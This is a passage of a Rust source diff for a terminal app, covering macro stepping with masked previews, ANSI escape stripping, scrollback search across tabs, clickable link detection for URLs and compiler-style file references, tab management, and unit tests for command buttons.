+    /// Everything the macro might type, including both sides of branches,
+    /// for review before it runs, with secret values masked
+    pub fn preview(&self) -> String {
+        fn collect<'a>(steps: impl IntoIterator<Item = &'a PreparedStep>, out: &mut String) {
+            for step in steps {
+                match step {
+                    PreparedStep::Send { shown, .. } => out.push_str(shown),
+                    PreparedStep::IfMatch {
+                        then, otherwise, ..
+                    } => {
+                        collect(then, out);
+                        collect(otherwise, out);
+                    }
+                    PreparedStep::Wait { .. } | PreparedStep::Sleep(_) => {}
+                }
+            }
+        }
+        let mut preview = String::new();
+        collect(&self.pending, &mut preview);
+        preview
+    }
+
+    /// Records output read from the tab
+    pub fn push_output(&mut self, data: &str) {
+        self.output.push_str(&self.stripper.push(data));
+        if self.output.len() > MACRO_OUTPUT_LIMIT {
+            let mut cut = self.output.len() - MACRO_OUTPUT_LIMIT;
+            while !self.output.is_char_boundary(cut) {
+                cut += 1;
+            }
+            self.output.drain(..cut);
+        }
+    }
+
+    /// Advances through the steps as far as possible at time `now`
+    pub fn next(&mut self, now: Instant) -> Result<MacroAction, AppError> {
+        loop {
+            let Some(step) = self.pending.pop_front() else {
+                return Ok(MacroAction::Finished);
+            };
+            match step {
+                PreparedStep::Send { text, .. } => {
+                    self.output.clear();
+                    return Ok(MacroAction::Send(text));
+                }
+                PreparedStep::Sleep(duration) => {
+                    let deadline = *self.deadline.get_or_insert(now + duration);
+                    if now < deadline {
+                        self.pending.push_front(PreparedStep::Sleep(duration));
+                        return Ok(MacroAction::Wait(deadline));
+                    }
+                }
+                PreparedStep::Wait { regex, timeout } => {
+                    if !self.consume_match(&regex) {
+                        let deadline = *self.deadline.get_or_insert(now + timeout);
+                        if now >= deadline {
+                            self.deadline = None;
+                            return Err(AppError::MacroTimeout(regex.as_str().to_owned()));
+                        }
+                        self.pending
+                            .push_front(PreparedStep::Wait { regex, timeout });
+                        return Ok(MacroAction::Wait(deadline));
+                    }
+                }
+                PreparedStep::IfMatch {
+                    regex,
+                    timeout,
+                    then,
+                    otherwise,
+                } => {
+                    let branch = if self.consume_match(&regex) {
+                        then
+                    } else {
+                        let deadline = *self.deadline.get_or_insert(now + timeout);
+                        if now < deadline {
+                            self.pending.push_front(PreparedStep::IfMatch {
+                                regex,
+                                timeout,
+                                then,
+                                otherwise,
+                            });
+                            return Ok(MacroAction::Wait(deadline));
+                        }
+                        otherwise
+                    };
+                    for step in branch.into_iter().rev() {
+                        self.pending.push_front(step);
+                    }
+                }
+            }
+            self.deadline = None;
+        }
+    }
+
+    /// Drops the output up to the end of the first match, if there is one
+    fn consume_match(&mut self, regex: &Regex) -> bool {
+        match regex.find(&self.output) {
+            Some(found) => {
+                self.output.drain(..found.end());
+                true
+            }
+            None => false,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, Default, PartialEq)]
+enum AnsiState {
+    #[default]
+    Text,
+    Escape,
+    /// Control sequence, ended by a byte in `@`..=`~`
+    Csi,
+    /// Operating system command or other string, ended by BEL or ESC `\`
+    String,
+    StringEscape,
+    /// Character set designation, which takes one more character
+    Charset,
+}
+
+/// Removes ANSI escape sequences and control characters other than newlines
+/// and tabs from terminal output. Sequences split across chunks are handled.
+#[derive(Debug, Clone, Default)]
+pub struct AnsiStripper {
+    state: AnsiState,
+    keep_carriage_returns: bool,
+}
+
+impl AnsiStripper {
+    /// A stripper that also keeps `\r`, for callers that track line rewrites
+    pub fn keeping_carriage_returns() -> Self {
+        Self {
+            keep_carriage_returns: true,
+            ..Self::default()
+        }
+    }
+
+    /// Strips the next chunk of output
+    pub fn push(&mut self, data: &str) -> String {
+        let mut text = String::with_capacity(data.len());
+        for c in data.chars() {
+            self.state = match (self.state, c) {
+                (AnsiState::Text, '\x1b') => AnsiState::Escape,
+                (AnsiState::Text, c) => {
+                    if !c.is_control()
+                        || c == '\n'
+                        || c == '\t'
+                        || (c == '\r' && self.keep_carriage_returns)
+                    {
+                        text.push(c);
+                    }
+                    AnsiState::Text
+                }
+                (AnsiState::Escape, '[') => AnsiState::Csi,
+                (AnsiState::Escape, ']' | 'P' | 'X' | '^' | '_') => AnsiState::String,
+                (AnsiState::Escape, '(' | ')' | '*' | '+') => AnsiState::Charset,
+                (AnsiState::Escape, _) => AnsiState::Text,
+                (AnsiState::Csi, '@'..='~') => AnsiState::Text,
+                (AnsiState::Csi, _) => AnsiState::Csi,
+                (AnsiState::String, '\x07') => AnsiState::Text,
+                (AnsiState::String, '\x1b') => AnsiState::StringEscape,
+                (AnsiState::String, _) => AnsiState::String,
+                (AnsiState::StringEscape, '\\') => AnsiState::Text,
+                (AnsiState::StringEscape, _) => AnsiState::String,
+                (AnsiState::Charset, _) => AnsiState::Text,
+            };
+        }
+        text
+    }
+}
+
+/// Removes ANSI escape sequences from a complete piece of terminal output
+pub fn strip_ansi(data: &str) -> String {
+    AnsiStripper::default().push(data)
+}
+
+/// Most bytes of text a tab keeps for searching, however few lines that is
+pub const SCROLLBACK_BYTES: usize = 16 * 1024 * 1024;
+
+/// Longest line a tab keeps for searching, in bytes. The rest of a longer
+/// line is dropped.
+pub const SCROLLBACK_LINE_BYTES: usize = 64 * 1024;
+
+/// Most lines of context a search returns before and after each match
+pub const MAX_SEARCH_CONTEXT_LINES: usize = 50;
+
+/// Most matches a search returns per tab
+pub const MAX_SEARCH_RESULTS: usize = 10_000;
+
+/// Most lines one `find_links` call looks at
+pub const MAX_LINK_LINES: usize = 1000;
+
+/// A tab's output as plain text lines, without escape sequences. Only the
+/// most recent lines are kept; line numbers keep counting from the start of
+/// the tab so positions stay valid as old lines are dropped.
+#[derive(Debug, Clone)]
+pub struct Scrollback {
+    stripper: AnsiStripper,
+    lines: VecDeque<ScrollbackLine>,
+    /// The line being written, which has no newline yet
+    current: ScrollbackLine,
+    /// A `\r` that may be the start of `\r\n`
+    pending_cr: bool,
+    /// Number of lines dropped from the front
+    first_line: usize,
+    capacity: usize,
+    /// Bytes of text in `lines`
+    bytes: usize,
+}
+
+impl Scrollback {
+    /// Creates an empty scrollback keeping at most `capacity` lines and
+    /// `SCROLLBACK_BYTES` of text
+    pub fn new(capacity: usize) -> Self {
+        Self {
+            stripper: AnsiStripper::keeping_carriage_returns(),
+            lines: VecDeque::new(),
+            current: ScrollbackLine::default(),
+            pending_cr: false,
+            first_line: 0,
+            capacity: capacity.max(1),
+            bytes: 0,
+        }
+    }
+
+    /// Adds the next chunk of output, received at `now_ms`. A `\r` that
+    /// isn't part of `\r\n` rewrites the current line, as progress bars do.
+    pub fn push(&mut self, data: &str, now_ms: u64) {
+        for c in self.stripper.push(data).chars() {
+            if std::mem::take(&mut self.pending_cr) && c != '\n' && c != '\r' {
+                self.current.text.clear();
+            }
+            match c {
+                '\r' => self.pending_cr = true,
+                '\n' => {
+                    let mut line = std::mem::take(&mut self.current);
+                    if line.text.is_empty() {
+                        line.timestamp_ms = now_ms;
+                    }
+                    self.bytes += line.text.len();
+                    self.lines.push_back(line);
+                    while self.lines.len() > self.capacity || self.bytes > SCROLLBACK_BYTES {
+                        let Some(dropped) = self.lines.pop_front() else {
+                            break;
+                        };
+                        self.bytes -= dropped.text.len();
+                        self.first_line += 1;
+                    }
+                }
+                c => {
+                    if self.current.text.len() + c.len_utf8() <= SCROLLBACK_LINE_BYTES {
+                        self.current.text.push(c);
+                    }
+                    self.current.timestamp_ms = now_ms;
+                }
+            }
+        }
+    }
+
+    /// Number of the oldest line still kept
+    pub fn first_line(&self) -> usize {
+        self.first_line
+    }
+
+    /// The kept lines, oldest first, including the unfinished last line
+    pub fn lines(&self) -> impl Iterator<Item = &str> {
+        self.timed_lines().map(|line| line.text.as_str())
+    }
+
+    fn timed_lines(&self) -> impl Iterator<Item = &ScrollbackLine> {
+        self.lines
+            .iter()
+            .chain((!self.current.text.is_empty()).then_some(&self.current))
+    }
+
+    /// Copies the kept lines numbered `start..end`, at most
+    /// `MAX_LINK_LINES` of them, so they can be looked at without holding
+    /// the scrollback
+    pub fn line_range(&self, lines: std::ops::Range<usize>) -> ScrollbackRange {
+        let start = lines.start.saturating_sub(self.first_line);
+        let end = lines
+            .end
+            .saturating_sub(self.first_line)
+            .min(start.saturating_add(MAX_LINK_LINES));
+        let copied: Vec<String> = self
+            .lines()
+            .take(end)
+            .skip(start)
+            .map(str::to_owned)
+            .collect();
+        ScrollbackRange {
+            first_line: self.first_line + start,
+            lines: copied,
+        }
+    }
+
+    /// Finds the lines matching `query`. Matches don't span lines.
+    pub fn search(&self, query: &SearchQuery) -> Result<SearchResults, AppError> {
+        Ok(self.search_regex(&query.regex()?, query))
+    }
+
+    /// Finds the lines matching an already compiled query, so a search over
+    /// many tabs only compiles it once
+    fn search_regex(&self, regex: &Regex, query: &SearchQuery) -> SearchResults {
+        let context = query.context_lines.min(MAX_SEARCH_CONTEXT_LINES);
+        let max_results = query.max_results.min(MAX_SEARCH_RESULTS);
+        let timed_lines: Vec<&ScrollbackLine> = self.timed_lines().collect();
+        let lines: Vec<&str> = timed_lines.iter().map(|line| line.text.as_str()).collect();
+        let mut results = SearchResults::default();
+        for (index, line) in lines.iter().enumerate() {
+            let timestamp_ms = timed_lines[index].timestamp_ms;
+            for found in regex.find_iter(line) {
+                if found.start() == found.end() {
+                    continue;
+                }
+                results.total += 1;
+                results.first_match_ms.get_or_insert(timestamp_ms);
+                results.last_match_ms = Some(timestamp_ms);
+                if results.matches.len() == max_results {
+                    results.truncated = true;
+                    continue;
+                }
+                results.matches.push(SearchMatch {
+                    line: self.first_line + index,
+                    timestamp_ms,
+                    start_column: line[..found.start()].chars().count(),
+                    end_column: line[..found.end()].chars().count(),
+                    text: line.to_string(),
+                    before: lines[index.saturating_sub(context)..index]
+                        .iter()
+                        .map(|l| l.to_string())
+                        .collect(),
+                    after: lines[index + 1..(index + 1).saturating_add(context).min(lines.len())]
+                        .iter()
+                        .map(|l| l.to_string())
+                        .collect(),
+                });
+            }
+        }
+        results
+    }
+}
+
+/// A line of a tab's output
+#[derive(Debug, Clone, Default)]
+struct ScrollbackLine {
+    text: String,
+    /// When the line was last written to
+    timestamp_ms: u64,
+}
+
+/// What to look for in a tab's scrollback
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(default)]
+pub struct SearchQuery {
+    pub pattern: String,
+    /// Treats `pattern` as a regular expression instead of plain text
+    pub regex: bool,
+    pub case_sensitive: bool,
+    /// Only matches that start and end at word boundaries
+    pub whole_word: bool,
+    /// Lines of context returned before and after each match, up to
+    /// `MAX_SEARCH_CONTEXT_LINES`
+    pub context_lines: usize,
+    /// Matches returned at most, up to `MAX_SEARCH_RESULTS`; the results
+    /// say when there were more
+    pub max_results: usize,
+}
+
+impl Default for SearchQuery {
+    fn default() -> Self {
+        Self {
+            pattern: String::new(),
+            regex: false,
+            case_sensitive: false,
+            whole_word: false,
+            context_lines: 2,
+            max_results: 1000,
+        }
+    }
+}
+
+impl SearchQuery {
+    /// Compiles the query into a regular expression
+    pub fn regex(&self) -> Result<Regex, AppError> {
+        if self.pattern.is_empty() {
+            return Err(AppError::InvalidPattern {
+                pattern: String::new(),
+                message: "the search is empty".to_string(),
+            });
+        }
+        let mut pattern = if self.regex {
+            self.pattern.clone()
+        } else {
+            regex::escape(&self.pattern)
+        };
+        if self.whole_word {
+            pattern = format!(r"\b(?:{pattern})\b");
+        }
+        regex::RegexBuilder::new(&pattern)
+            .case_insensitive(!self.case_sensitive)
+            .build()
+            .map_err(|e| AppError::InvalidPattern {
+                pattern: self.pattern.clone(),
+                message: e.to_string(),
+            })
+    }
+}
+
+/// A match in a tab's scrollback. Columns count characters.
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct SearchMatch {
+    /// Line number, counted from the start of the tab's output
+    pub line: usize,
+    /// When the line was printed
+    pub timestamp_ms: u64,
+    pub start_column: usize,
+    pub end_column: usize,
+    /// The whole matching line
+    pub text: String,
+    pub before: Vec<String>,
+    pub after: Vec<String>,
+}
+
+/// Matches of a search, in order of appearance
+#[derive(Debug, Clone, Default, Serialize, PartialEq)]
+pub struct SearchResults {
+    pub matches: Vec<SearchMatch>,
+    /// Set when there were more than `max_results` matches
+    pub truncated: bool,
+    /// Number of matches, including those past `max_results`
+    pub total: usize,
+    pub first_match_ms: Option<u64>,
+    pub last_match_ms: Option<u64>,
+}
+
+/// Matches of a search in one tab
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct TabSearchResults {
+    pub tab_id: String,
+    #[serde(flatten)]
+    pub results: SearchResults,
+}
+
+/// Searches the scrollback of several tabs at once, each on its own thread.
+/// Only tabs with matches are returned, the one that matched most recently
+/// first.
+pub fn search_tabs(
+    tabs: &[(String, &Mutex<Scrollback>)],
+    query: &SearchQuery,
+) -> Result<Vec<TabSearchResults>, AppError> {
+    let regex = query.regex()?;
+    let mut found: Vec<TabSearchResults> = std::thread::scope(|scope| {
+        let searches: Vec<_> = tabs
+            .iter()
+            .map(|(tab_id, scrollback)| {
+                let regex = &regex;
+                scope.spawn(move || TabSearchResults {
+                    tab_id: tab_id.clone(),
+                    // A panic while writing can't leave the lines half
+                    // updated, so a poisoned scrollback is still searched
+                    results: scrollback
+                        .lock()
+                        .unwrap_or_else(PoisonError::into_inner)
+                        .search_regex(regex, query),
+                })
+            })
+            .collect();
+        searches
+            .into_iter()
+            .filter_map(|search| search.join().ok())
+            .collect()
+    });
+    found.retain(|tab| tab.results.total > 0);
+    found.sort_by(|a, b| {
+        b.results
+            .last_match_ms
+            .cmp(&a.results.last_match_ms)
+            .then_with(|| a.tab_id.cmp(&b.tab_id))
+    });
+    Ok(found)
+}
+
+/// What a link in the terminal output points to
+#[derive(Debug, Clone, Serialize, PartialEq)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+pub enum LinkTarget {
+    Url {
+        url: String,
+    },
+    File {
+        /// Absolute path of the file
+        path: String,
+        line: Option<u32>,
+        column: Option<u32>,
+    },
+}
+
+/// A clickable part of a line of output. Columns count characters.
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct Link {
+    pub start_column: usize,
+    pub end_column: usize,
+    /// The text that is clickable
+    pub text: String,
+    #[serde(flatten)]
+    pub target: LinkTarget,
+}
+
+/// Lines copied out of a tab's scrollback
+#[derive(Debug, Clone, Default)]
+pub struct ScrollbackRange {
+    /// Number of the first copied line
+    pub first_line: usize,
+    pub lines: Vec<String>,
+}
+
+impl ScrollbackRange {
+    /// Finds links in the copied lines. Relative file paths are resolved
+    /// against `cwd`, and only files that exist count.
+    pub fn find_links(&self, cwd: Option<&Path>, home_dir: &str) -> Vec<LineLinks> {
+        let detector = LinkDetector::new();
+        self.lines
+            .iter()
+            .enumerate()
+            .filter_map(|(index, text)| {
+                let links = detector.detect(text, cwd, home_dir);
+                (!links.is_empty()).then(|| LineLinks {
+                    line: self.first_line + index,
+                    links,
+                })
+            })
+            .collect()
+    }
+}
+
+/// The links in one line of a tab's scrollback
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct LineLinks {
+    pub line: usize,
+    pub links: Vec<Link>,
+}
+
+/// Finds URLs and file references in lines of output: `path:line:col` as
+/// printed by rustc, tsc, pytest or `grep -n`, `path(line,col)` from tsc,
+/// and `File "path", line N` from Python tracebacks. Node, Ruby and Go
+/// stack traces use the `path:line` form.
+#[derive(Debug, Clone)]
+pub struct LinkDetector {
+    url: Regex,
+    file: Regex,
+}
+
+impl Default for LinkDetector {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl LinkDetector {
+    pub fn new() -> Self {
+        Self {
+            url: Regex::new(r#"\b(?:https?|file)://[^\s<>"'`]+"#).expect("valid URL regex"),
+            file: Regex::new(concat!(
+                r#"File "(?P<py_path>[^"]+)", line (?P<py_line>\d+)"#,
+                r#"|(?P<ts_path>[^\s():"'<>\[\]`|,;]+)\((?P<ts_line>\d+),(?P<ts_column>\d+)\)"#,
+                r#"|(?P<path>(?:[A-Za-z]:[\\/])?[^\s():"'<>\[\]`|,;]+):(?P<line>\d+)(?::(?P<column>\d+))?"#,
+            ))
+            .expect("valid file reference regex"),
+        }
+    }
+
+    /// Finds the links in a line of output without escape codes. File
+    /// references that don't point to an existing file are left out.
+    pub fn detect(&self, text: &str, cwd: Option<&Path>, home_dir: &str) -> Vec<Link> {
+        let mut found: Vec<(usize, usize, LinkTarget)> = Vec::new();
+        for url in self.url.find_iter(text) {
+            let end = url.start() + trim_url(url.as_str()).len();
+            let target = LinkTarget::Url {
+                url: text[url.start()..end].to_string(),
+            };
+            found.push((url.start(), end, target));
+        }
+        for captures in self.file.captures_iter(text) {
+            let group = |names: [&str; 3]| names.map(|name| captures.name(name));
+            let [path, line, column] = match captures.name("py_path") {
+                Some(_) => group(["py_path", "py_line", "py_column"]),
+                None if captures.name("ts_path").is_some() => {
+                    group(["ts_path", "ts_line", "ts_column"])
+                }
+                None => group(["path", "line", "column"]),
+            };
+            let Some(path) = path else { continue };
+            // Python tracebacks link the path; the other forms the whole
+            // reference
+            let (start, end) = if captures.name("py_path").is_some() {
+                (path.start(), path.end())
+            } else {
+                let whole = captures.get(0).expect("group 0 always matches");
+                (whole.start(), whole.end())
+            };
+            if found.iter().any(|(s, e, _)| start < *e && *s < end) {
+                continue;
+            }
+            let Some(resolved) = resolve_link_path(path.as_str(), cwd, home_dir) else {
+                continue;
+            };
+            let number = |m: Option<regex::Match>| m.and_then(|m| m.as_str().parse().ok());
+            let target = LinkTarget::File {
+                path: resolved.to_string_lossy().into_owned(),
+                line: number(line),
+                column: number(column),
+            };
+            found.push((start, end, target));
+        }
+        found.sort_by_key(|(start, _, _)| *start);
+        found
+            .into_iter()
+            .map(|(start, end, target)| Link {
+                start_column: text[..start].chars().count(),
+                end_column: text[..end].chars().count(),
+                text: text[start..end].to_string(),
+                target,
+            })
+            .collect()
+    }
+}
+
+/// Drops punctuation that ends the sentence around a URL rather than the
+/// URL itself, and a closing bracket the URL didn't open
+fn trim_url(url: &str) -> &str {
+    let mut url = url;
+    loop {
+        let trimmed = url.trim_end_matches(['.', ',', ';', ':', '!', '?']);
+        let trimmed = match trimmed.chars().last() {
+            Some(close @ (')' | ']' | '}')) => {
+                let open = match close {
+                    ')' => '(',
+                    ']' => '[',
+                    _ => '{',
+                };
+                if trimmed.matches(open).count() < trimmed.matches(close).count() {
+                    &trimmed[..trimmed.len() - 1]
+                } else {
+                    trimmed
+                }
+            }
+            _ => trimmed,
+        };
+        if trimmed.len() == url.len() {
+            return url;
+        }
+        url = trimmed;
+    }
+}
+
+/// Makes a path from the output absolute, expanding `~` and resolving
+/// relative paths against `cwd`. Returns None unless it is an existing file.
+fn resolve_link_path(path: &str, cwd: Option<&Path>, home_dir: &str) -> Option<PathBuf> {
+    let path = match path.strip_prefix("~/") {
+        Some(rest) => Path::new(home_dir).join(rest),
+        None => PathBuf::from(path),
+    };
+    let path = if path.is_absolute() {
+        path
+    } else {
+        cwd?.join(path)
+    };
+    let path: PathBuf = path
+        .components()
+        .filter(|c| !matches!(c, std::path::Component::CurDir))
+        .collect();
+    path.is_file().then_some(path)
+}
+
+/// Manages tab IDs and tracks active tabs
+#[derive(Debug, Clone)]
+pub struct TabManager {
+    next_tab_num: u32,
+    active_tabs: HashSet<String>,
+    active_tab_id: Option<String>,
+}
+
+impl TabManager {
+    /// Creates a new TabManager
+    pub fn new() -> Self {
+        Self {
+            next_tab_num: 0,
+            active_tabs: HashSet::new(),
+            active_tab_id: None,
+        }
+    }
+
+    /// Creates a new tab and returns its ID
+    pub fn create_tab(&mut self) -> String {
+        let tab_id = format!("tab-{}", self.next_tab_num);
+        self.next_tab_num += 1;
+        self.active_tabs.insert(tab_id.clone());
+
+        // Set as active if it's the first tab
+        if self.active_tab_id.is_none() {
+            self.active_tab_id = Some(tab_id.clone());
+        }
+
+        tab_id
+    }
+
+    /// Closes a tab by ID. Returns error if tab doesn't exist or is the last tab.
+    pub fn close_tab(&mut self, tab_id: &str) -> Result<(), AppError> {
+        if !self.active_tabs.contains(tab_id) {
+            return Err(AppError::TabNotFound(tab_id.to_owned()));
+        }
+
+        if self.active_tabs.len() <= 1 {
+            return Err(AppError::CannotCloseLastTab);
+        }
+
+        self.active_tabs.remove(tab_id);
+
+        // If we closed the active tab, switch to another one
+        if self.active_tab_id.as_deref() == Some(tab_id) {
+            self.active_tab_id = self.active_tabs.iter().next().cloned();
+        }
+
+        Ok(())
+    }
+
+    /// Switches to a tab by ID
+    pub fn switch_to_tab(&mut self, tab_id: &str) -> Result<(), AppError> {
+        if !self.active_tabs.contains(tab_id) {
+            return Err(AppError::TabNotFound(tab_id.to_owned()));
+        }
+        self.active_tab_id = Some(tab_id.to_string());
+        Ok(())
+    }
+
+    /// Gets the currently active tab ID
+    pub fn active_tab(&self) -> Option<&str> {
+        self.active_tab_id.as_deref()
+    }
+
+    /// Checks if a tab exists
+    pub fn has_tab(&self, tab_id: &str) -> bool {
         self.active_tabs.contains(tab_id)
     }
 
-    /// Gets the number of open tabs
-    pub fn tab_count(&self) -> usize {
-        self.active_tabs.len()
+    /// Gets the number of open tabs
+    pub fn tab_count(&self) -> usize {
+        self.active_tabs.len()
+    }
+
+    /// Gets all tab IDs
+    pub fn get_tab_ids(&self) -> Vec<String> {
+        let mut ids: Vec<_> = self.active_tabs.iter().cloned().collect();
+        ids.sort(); // Sort for consistent ordering
+        ids
+    }
+
+    /// Gets the next tab number (for display purposes)
+    pub fn next_tab_number(&self) -> u32 {
+        self.next_tab_num
+    }
+}
+
+impl Default for TabManager {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_button_creation() {
+        let button = CommandButton::new("Test".to_string(), "echo test".to_string());
+        assert_eq!(button.name, "Test");
+        assert_eq!(button.command, "echo test");
+        assert!(!button.id.is_empty());
+    }
+
+    #[test]
+    fn test_button_manager_add() {
+        let mut manager = ButtonManager::new();
+        manager
+            .add_button("Test".to_string(), "echo test".to_string())
+            .unwrap();
+        assert_eq!(manager.count(), 1);
+    }
+
+    #[test]
+    fn test_button_manager_update() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("Test".to_string(), "echo test".to_string())
+            .unwrap();
+
+        manager
+            .update_button(&id, "Updated".to_string(), "echo updated".to_string())
+            .expect("button should exist");
+
+        let updated = manager.get_button(&id).expect("button should exist");
+        assert_eq!(updated.name, "Updated");
+        assert_eq!(updated.command, "echo updated");
+    }
+
+    #[test]
+    fn test_button_manager_delete() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("Test".to_string(), "echo test".to_string())
+            .unwrap();
+
+        manager.delete_button(&id).expect("button should exist");
+        assert_eq!(manager.count(), 0);
+    }
+
+    #[test]
+    fn test_button_manager_json() {
+        let mut manager = ButtonManager::new();
+        manager
+            .add_button("Test1".to_string(), "echo 1".to_string())
+            .unwrap();
+        manager
+            .add_button("Test2".to_string(), "echo 2".to_string())
+            .unwrap();
+
+        let json = manager.to_json().unwrap();
+        let loaded = ButtonManager::from_json(&json).unwrap();
+
+        assert_eq!(loaded.count(), 2);
+        assert_eq!(loaded.buttons[0].name, "Test1");
+        assert_eq!(loaded.buttons[1].name, "Test2");
+    }
+
+    #[test]
+    fn test_app_state_serialization() {
+        let mut state = AppState::new();
+        state
+            .button_manager
+            .add_button("Test".to_string(), "echo test".to_string())
+            .unwrap();
+
+        let json = state.to_json().unwrap();
+        let loaded = AppState::from_json(&json).unwrap();
+
+        assert_eq!(loaded.button_manager.count(), 1);
+        assert!(loaded.terminal_config.cursor_blink);
+    }
+
+    #[test]
+    fn test_button_manager_json_accepts_flat_list() {
+        let json = r#"[{ "id": "b1", "name": "Build", "command": "make" }]"#;
+
+        let loaded = ButtonManager::from_json(json).unwrap();
+        assert_eq!(loaded.count(), 1);
+        assert!(loaded.get_groups().is_empty());
+        assert_eq!(loaded.get_button("b1").unwrap().group_id, None);
+    }
+
+    // ============================================
+    // Button Ordering Tests
+    // ============================================
+
+    fn names(buttons: &[&CommandButton]) -> Vec<String> {
+        buttons.iter().map(|b| b.name.clone()).collect()
+    }
+
+    #[test]
+    fn test_move_button() {
+        let mut manager = ButtonManager::new();
+        manager
+            .add_button("A".to_string(), "a".to_string())
+            .unwrap();
+        manager
+            .add_button("B".to_string(), "b".to_string())
+            .unwrap();
+        let c = manager
+            .add_button("C".to_string(), "c".to_string())
+            .unwrap();
+
+        manager.move_button(&c, 0).unwrap();
+        assert_eq!(names(&manager.sorted_buttons()), vec!["C", "A", "B"]);
+
+        manager.move_button(&c, 99).unwrap();
+        assert_eq!(names(&manager.sorted_buttons()), vec!["A", "B", "C"]);
+
+        assert!(matches!(
+            manager.move_button("missing", 0),
+            Err(AppError::ButtonNotFound(_))
+        ));
+    }
+
+    #[test]
+    fn test_duplicate_button() {
+        let mut manager = ButtonManager::new();
+        let a = manager
+            .add_button("A".to_string(), "echo a".to_string())
+            .unwrap();
+        manager
+            .add_button("B".to_string(), "echo b".to_string())
+            .unwrap();
+        manager.record_use(&a, 0).unwrap();
+        manager.set_accelerator(&a, Some("CmdOrCtrl+A")).unwrap();
+
+        let copy = manager.duplicate_button(&a).unwrap();
+
+        assert_ne!(copy, a);
+        assert_eq!(names(&manager.sorted_buttons()), vec!["A", "A (copy)", "B"]);
+        let copied = manager.get_button(&copy).unwrap();
+        assert_eq!(copied.command, "echo a");
+        assert_eq!(copied.use_count, 0);
+        assert_eq!(copied.accelerator, None);
+        manager.validate().unwrap();
+    }
+
+    #[test]
+    fn test_delete_buttons_is_all_or_nothing() {
+        let mut manager = ButtonManager::new();
+        let a = manager
+            .add_button("A".to_string(), "a".to_string())
+            .unwrap();
+        let b = manager
+            .add_button("B".to_string(), "b".to_string())
+            .unwrap();
+        manager
+            .add_button("C".to_string(), "c".to_string())
+            .unwrap();
+
+        let result = manager.delete_buttons(&[&a, "missing"]);
+        assert!(matches!(result, Err(AppError::ButtonNotFound(id)) if id == "missing"));
+        assert_eq!(manager.count(), 3);
+
+        manager.delete_buttons(&[&a, &b]).unwrap();
+        assert_eq!(names(&manager.sorted_buttons()), vec!["C"]);
+    }
+
+    #[test]
+    fn test_move_buttons_to_group() {
+        let mut manager = ButtonManager::new();
+        let group = manager.add_group("Group".to_string(), None).unwrap();
+        let a = manager
+            .add_button("A".to_string(), "a".to_string())
+            .unwrap();
+        let b = manager
+            .add_button("B".to_string(), "b".to_string())
+            .unwrap();
+
+        manager
+            .move_buttons_to_group(&[&a, &b], Some(&group))
+            .unwrap();
+        assert_eq!(manager.buttons_in_group(Some(&group)).len(), 2);
+
+        manager.move_buttons_to_group(&[&a], None).unwrap();
+        assert_eq!(manager.buttons_in_group(None)[0].id, a);
+    }
+
+    #[test]
+    fn test_sort_orders_are_stable() {
+        let mut manager = ButtonManager::new();
+        let b = manager
+            .add_button("beta".to_string(), "b".to_string())
+            .unwrap();
+        let a1 = manager
+            .add_button("Alpha".to_string(), "a1".to_string())
+            .unwrap();
+        manager
+            .add_button("alpha".to_string(), "a2".to_string())
+            .unwrap();
+        manager.record_use(&a1, 0).unwrap();
+        manager.record_use(&a1, 0).unwrap();
+        manager.record_use(&b, 0).unwrap();
+
+        manager.set_sort_order(ButtonSortOrder::Name);
+        assert_eq!(
+            names(&manager.sorted_buttons()),
+            vec!["Alpha", "alpha", "beta"]
+        );
+
+        manager.set_sort_order(ButtonSortOrder::MostUsed);
+        assert_eq!(
+            names(&manager.sorted_buttons()),
+            vec!["Alpha", "beta", "alpha"]
+        );
+
+        manager.set_sort_order(ButtonSortOrder::Manual);
+        assert_eq!(
+            names(&manager.sorted_buttons()),
+            vec!["beta", "Alpha", "alpha"]
+        );
+    }
+
+    #[test]
+    fn test_sort_order_and_usage_persist() {
+        let mut manager = ButtonManager::new();
+        let id = manager
+            .add_button("A".to_string(), "a".to_string())
+            .unwrap();
+        manager.record_use(&id, 0).unwrap();
+        manager.set_sort_order(ButtonSortOrder::MostUsed);
+
+        let loaded = ButtonManager::from_json(&manager.to_json().unwrap()).unwrap();
+        assert_eq!(loaded.sort_order(), ButtonSortOrder::MostUsed);
+        assert_eq!(loaded.get_button(&id).unwrap().use_count, 1);
+    }
+
+    // ============================================
+    // Execution Target Tests
+    // ============================================
+
+    #[test]
+    fn test_execution_target_resolve() {
+        let no_named = |_: &str| None;
+
+        assert_eq!(
+            ExecutionTarget::ActiveTab
+                .resolve(Some("tab-1"), no_named)
+                .unwrap(),
+            TargetResolution::Existing("tab-1".to_string())
+        );
+        assert!(matches!(
+            ExecutionTarget::ActiveTab.resolve(None, no_named),
+            Err(AppError::NoActiveTab)
+        ));
+
+        let new_tab = ExecutionTarget::NewTab {
+            profile: Some("root".to_string()),
+            cwd: None,
+        };
+        assert_eq!(
+            new_tab.resolve(Some("tab-1"), no_named).unwrap(),
+            TargetResolution::Spawn(SpawnRequest {
+                profile: Some("root".to_string()),
+                ..SpawnRequest::default()
+            })
+        );
+
+        let split = ExecutionTarget::SplitPane {
+            direction: SplitDirection::Vertical,
+        };
+        assert_eq!(
+            split.resolve(Some("tab-1"), no_named).unwrap(),
+            TargetResolution::Spawn(SpawnRequest {
+                split_from: Some(("tab-1".to_string(), SplitDirection::Vertical)),
+                ..SpawnRequest::default()
+            })
+        );
+    }
+
+    #[test]
+    fn test_named_tab_is_created_then_reused() {
+        let target = ExecutionTarget::NamedTab {
+            name: "dev server".to_string(),
+            profile: None,
+            cwd: Some("~/app".to_string()),
+        };
+
+        let first = target.resolve(Some("tab-1"), |_| None).unwrap();
+        assert_eq!(
+            first,
+            TargetResolution::Spawn(SpawnRequest {
+                cwd: Some("~/app".to_string()),
+                name: Some("dev server".to_string()),
+                ..SpawnRequest::default()
+            })
+        );
+
+        let again = target
+            .resolve(Some("tab-1"), |name| {
